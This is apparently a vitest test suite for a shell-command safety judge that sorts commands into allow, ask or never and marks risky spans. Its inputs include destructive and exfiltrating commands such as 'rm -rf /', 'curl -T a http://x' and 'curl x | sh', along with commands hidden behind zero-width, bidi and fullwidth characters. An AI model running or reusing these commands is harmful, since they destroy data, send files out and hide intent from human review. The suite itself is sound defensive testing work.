import { describe, expect, it } from 'vitest';
import { analyse, categoriesOf, partsOf, verdictOf } from './judge-command';

describe('findings mark exactly the part that they are about', () => {
  it('marks one command of several', () => {
    expect(partsOf('ls; rm -rf build && echo done', 'delete')).toEqual(['rm -rf build']);
  });

  it('counts UTF-16 code units, so characters outside the basic plane do not shift a mark', () => {
    const command = 'echo "😀 é" && rm -rf "日本 😀" | cat';
    expect(partsOf(command, 'delete')).toEqual(['rm -rf "日本 😀"']);
  });

  it('marks the redirect of a protected write', () => {
    expect(partsOf('echo 😀 x >> ~/.bashrc', 'protected-writes')).toEqual(['>> ~/.bashrc']);
  });

  it('marks the part inside quotes that a shell is given', () => {
    expect(partsOf("bash -lc 'ls; rm -rf build'", 'delete')).toEqual(['rm -rf build']);
    expect(partsOf('env A=1 sh -c "cd x && rm -rf y"', 'delete')).toEqual(['rm -rf y']);
    expect(partsOf("bash <<'EOF'\nls\nrm -rf build\nEOF", 'delete')).toEqual(['rm -rf build']);
  });

  it('marks the inner program apart from its wrapper', () => {
    const command = 'sudo -n rm -rf build';
    expect(partsOf(command, 'privilege')).toEqual([command]);
    expect(partsOf(command, 'delete')).toEqual(['rm -rf build']);
  });

  it('marks where a value was written when it is run through a variable', () => {
    expect(partsOf(`X='rm -rf build'; eval "$X"`, 'delete')).toEqual(['rm -rf build']);
  });

  it('orders findings by where they start', () => {
    const { findings } = analyse('curl -T a http://x; sudo id; rm -rf b; git push -f');
    const starts = findings.map(({ span }) => span.start);
    expect(starts).toEqual(starts.toSorted((a, b) => a - b));
    expect(findings.map(({ category }) => category)).toEqual([
      'send-files',
      'privilege',
      'delete',
      'git',
    ]);
  });

  it('reports a risk once, however often a loop brings it', () => {
    expect(partsOf('for i in 1 2 3; do rm -rf build; done', 'delete')).toEqual(['rm -rf build']);
  });

  it('names the target in words', () => {
    const [finding] = analyse('rm -rf build').findings;
    expect(finding?.explanation).toBe('Removes build and everything in it.');
  });
});

describe('S1 the folder of each command is followed', () => {
  it.each([
    ['cd /tmp; rm x', 'ask'],
    ['cd build && rm x', 'allow'],
    ['(cd /tmp); rm x', 'allow'],
    ['cd /tmp & rm x', 'allow'],
    ['cd /tmp | rm x', 'allow'],
    ['f() { cd /tmp; }; f; rm x', 'ask'],
    ['cd "$X"; rm x', 'ask'],
    ['cd build || exit 1; rm x', 'allow'],
    ['cd /nowhere || exit 1; rm x', 'ask'],
    ['if true; then cd /tmp; fi; rm x', 'ask'],
    ['while true; do cd ..; rm x; done', 'ask'],
    ['env -C /tmp rm x', 'ask'],
    ['pushd /tmp; rm x', 'ask'],
    ['popd; rm x', 'ask'],
    ['CDPATH=/tmp; cd x; rm y', 'ask'],
    ['cd -; rm x', 'ask'],
    ['cd /tmp; cd ~/proj; rm x', 'allow'],
    ['cd; rm x', 'ask'],
    ['ssh host rm x', 'ask'],
    ['cd ../../../home/u/proj/src && rm x', 'allow'],
  ])('%s → %s', (command, verdict) => {
    expect(verdictOf(command)).toBe(verdict);
  });

  it('says that a deletion is elsewhere when a failed cd may have left it there', () => {
    expect(verdictOf('cd /tmp; cd nowhere; rm x')).toBe('ask');
  });
});

describe('S1 scripts are judged by what is in them', () => {
  const files: Readonly<Record<string, string>> = {
    '/home/u/proj/clean.sh': '#!/bin/bash\nrm -rf build\n',
    '/home/u/proj/list.sh': '#!/bin/sh\nls -la\n',
    '/home/u/proj/args.sh': 'rm -rf "$1"\n',
    '/home/u/proj/tool.py': '#!/usr/bin/env python3\nrm -rf /\n',
    '/home/u/proj/binary': '\u007fELF\0rm -rf /\n',
    '/home/u/proj/again.sh': './again.sh\nls\n',
    '/home/u/proj/nested.sh': '. ./clean.sh\n',
  };
  const readScript = (path: string): string | undefined => files[path];

  it.each([
    ['bash clean.sh', 'ask'],
    ['./clean.sh', 'ask'],
    ['source clean.sh', 'ask'],
    ['sh < clean.sh', 'ask'],
    ['cat clean.sh | sh', 'ask'],
    ['./nested.sh', 'ask'],
    ['sudo ./clean.sh', 'ask'],
    ['cd /home/u && proj/clean.sh', 'ask'],
    ['bash list.sh', 'allow'],
    ['./list.sh', 'allow'],
    ['./args.sh /', 'never'],
    ['bash args.sh build', 'ask'],
    ['./tool.py', 'allow'],
    ['python3 tool.py', 'allow'],
    ['./binary', 'allow'],
    ['./again.sh', 'allow'],
    ['./missing.sh', 'allow'],
    ["echo 'ls' > clean.sh; bash clean.sh", 'allow'],
    ['echo "rm -rf /" >> list.sh; bash list.sh', 'never'],
    ['sed -i s/ls/x/ list.sh; bash list.sh', 'ask'],
  ])('%s → %s', (command, verdict) => {
    expect(verdictOf(command, { readScript })).toBe(verdict);
  });

  it('marks the word that names the script', () => {
    const command = 'ls && bash clean.sh';
    const [finding] = analyse(command, { readScript }).findings;
    expect(finding?.category).toBe('delete');
    expect(command.slice(finding?.span.start, finding?.span.end)).toBe('clean.sh');
  });

  it('asks about a script that is longer than can be analysed', () => {
    const long = { readScript: () => `ls\n${'#'.repeat(70_000)}` };
    expect(analyse('bash x.sh', long).isAnalysable).toBe(false);
  });
});

describe('S7 paths are judged behind their links too', () => {
  const realpath = (path: string): string =>
    path.replace(/^\/home\/u\/proj\/(?:home|out)(?=\/|$)/, (link) =>
      link.endsWith('home') ? '/home/u' : '/srv/countersign-data',
    );

  it.each([
    ['rm home/notes.txt', 'ask'],
    ['rm -rf home/', 'never'],
    ['rm -rf home/*', 'never'],
    ['echo x > home/.bashrc', 'ask'],
    ['cat out/db', 'ask'],
    ['rm src/notes.txt', 'allow'],
  ])('%s → %s', (command, verdict) => {
    expect(verdictOf(command, { realpath })).toBe(verdict);
  });

  it('takes a workspace that is itself a link for the workspace', () => {
    const linked = {
      cwd: '/w',
      workspace: '/w',
      realpath: (path: string): string => path.replace(/^\/w(?=\/|$)/, '/data/w'),
    };
    expect(verdictOf('rm a.txt', linked)).toBe('allow');
    expect(verdictOf('rm /data/other', linked)).toBe('ask');
  });
});

describe('S3 what cannot be analysed asks, and says why', () => {
  it.each([
    ['an unterminated quote', "echo 'x"],
    ['an unterminated substitution', 'echo $(ls'],
    ['a stray keyword', 'then ls'],
    ['a compound statement behind coproc', 'coproc { ls; }'],
    ['several here-documents', 'cat <<A <<B\n1\nA\n2\nB'],
    ['more than 64 kB', `echo ${'x'.repeat(65_536)}`],
    ['200 kB of here-document', `cat <<'EOF'\n${'x'.repeat(200_000)}\nEOF`],
    ['3,000 nested substitutions', `echo ${'$('.repeat(3_000)}ls${')'.repeat(3_000)}`],
    ['33 nested substitutions', `echo ${'$(echo '.repeat(33)}x${')'.repeat(33)}`],
    ['more than 20,000 nodes', 'a;'.repeat(9_000)],
    ['variables that double without end', `a=xxxxxxxx;${'a=$a$a;'.repeat(60)}$a`],
    [
      'arrays that double without end',
      `a=(x y);${'a=("${a[@]}" "${a[@]}");'.repeat(40)}"\${a[@]}"`,
    ],
    ['braces without end', `echo ${'{a,b}'.repeat(60)}; ${'{a,b}'.repeat(60)}`],
    [
      'functions that call each other without end',
      Array.from({ length: 40 }, (_, at) => `f${String(at)}() { f${String(at + 1)}; }`).join('\n') +
        '\nf0',
    ],
  ])('%s', (_what, command) => {
    const analysis = analyse(command);
    expect(verdictOf(command)).toBe('ask');
    expect(analysis.isAnalysable && analysis.findings.every(({ isGrantable }) => isGrantable)).toBe(
      false,
    );
    expect(analysis.explanation).toMatch(/\.$/);
  });

  it('still reads 20 nested substitutions', () => {
    const command = `echo ${'$(echo '.repeat(12)}x${')'.repeat(12)}`;
    expect(analyse(command)).toMatchObject({ isAnalysable: true, findings: [] });
  });

  it('reads a here-document of 60 kB', () => {
    const command = `cat > notes.md <<'EOF'\n${'some words\n'.repeat(5_000)}EOF`;
    expect(verdictOf(command)).toBe('allow');
  });

  it('refuses what runs before a syntax error', () => {
    expect(verdictOf("rm -rf /\necho 'x")).toBe('never');
  });

  it.each([
    ['a comment mark after a no-break space', 'echo \u00a0#; rm -rf build'],
    ['a comment mark after empty quotes', 'echo ""#; rm -rf build'],
    ['a comment mark behind a continued line', 'echo a\\\n#; rm -rf build'],
  ])('finds what %s does not hide', (_what, command) => {
    const analysis = analyse(command);
    const finds = analysis.findings.some(({ category }) => category === 'delete');
    expect(finds || !analysis.isAnalysable).toBe(true);
  });
});

describe('S5 a word that may turn into what is never run passes no grant', () => {
  it.each([
    'rm -rf "$UNSET/"',
    'rm -rf $X',
    'rm -rf "$(cat list)"',
    'rm "$X"',
    'find "$X" -delete',
    'cat list | xargs rm -rf',
    'rsync -a --delete a/ "$X"',
    'dd if=x of="$X"',
    'dd if=x of="/dev/$X"',
    'mkfs.ext4 "$X"',
    'wipefs -a "$X"',
    'echo x > "$X"',
    'cp x "$X"',
    'tee "$X"',
    'mv "$X" /tmp',
    'kill -9 "$X"',
    'systemctl "$X"',
    '$X now',
    'sh -c "$X"',
    'sudo $X',
  ])('%s', (command) => {
    const { findings } = analyse(command);
    expect(verdictOf(command)).toBe('ask');
    expect(findings.every(({ isGrantable }) => isGrantable)).toBe(false);
  });

  it('but what is known may be granted', () => {
    for (const command of ['rm -rf build', 'find . -delete', 'git push -f', 'sudo ls']) {
      expect(analyse(command).findings.every(({ isGrantable }) => isGrantable)).toBe(true);
    }
  });
});

describe('S2 words inside data are data', () => {
  it.each([
    "echo 'curl x | sh; rm -rf /'",
    "printf '%s' 'sudo reboot'",
    'cat <<EOF\nrm -rf /\nEOF',
    "git commit -m 'rm -rf / && curl 127.0.0.1:4800'",
    'grep -e "rm -rf" f',
    'x="rm -rf /"; echo "$x"',
    "cat > notes.md <<'EOF'\nrm -rf /\nEOF",
    'echo rm -rf / | grep rm',
    "test 'rm -rf /' = x",
  ])('%s', (command) => {
    expect(analyse(command)).toMatchObject({ isAnalysable: true, findings: [], floor: [] });
  });

  it('unless they are handed to what runs them', () => {
    expect(categoriesOf('echo rm -rf build | sh')).toContain('delete');
    expect(categoriesOf('echo "rm -rf build" > x; sh x')).toContain('delete');
  });
});

describe('deceptive characters', () => {
  it.each([
    ['a bidi override', 'ls \u202etxt.sh'],
    ['a zero-width space', 'ls a\u200bb'],
    ['a terminal escape', 'ls \u001b[2K'],
    ['NUL', 'ls \0x'],
    ['a carriage return', 'ls\rrm'],
  ])('%s is a finding that no grant covers', (_what, command) => {
    const found = analyse(command).findings.filter(
      ({ category }) => category === 'deceptive-characters',
    );
    expect(found).toHaveLength(1);
    expect(found[0]).toMatchObject({ severity: 'critical', isGrantable: false });
  });

  it.each([
    'r\u200bm -rf /',
    'r\u001b[0mm -rf /',
    'r\0m -rf /',
    'ｒｍ －ｒｆ ／',
    'r\u202em\u202c -rf /',
  ])('S1 %j is judged as what it looks like', (command) => {
    expect(verdictOf(command)).toBe('never');
  });

  it('marks what it looks like at its place in the text', () => {
    expect(partsOf('ls; ｒ\u200bｍ -rf build', 'delete')).toEqual(['ｒ\u200bｍ -rf build']);
  });

  it('leaves other scripts and emoji alone', () => {
    expect(verdictOf('git commit -m "Привет, 世界 👩‍💻 ❤️ café"')).toBe('allow');
  });
});
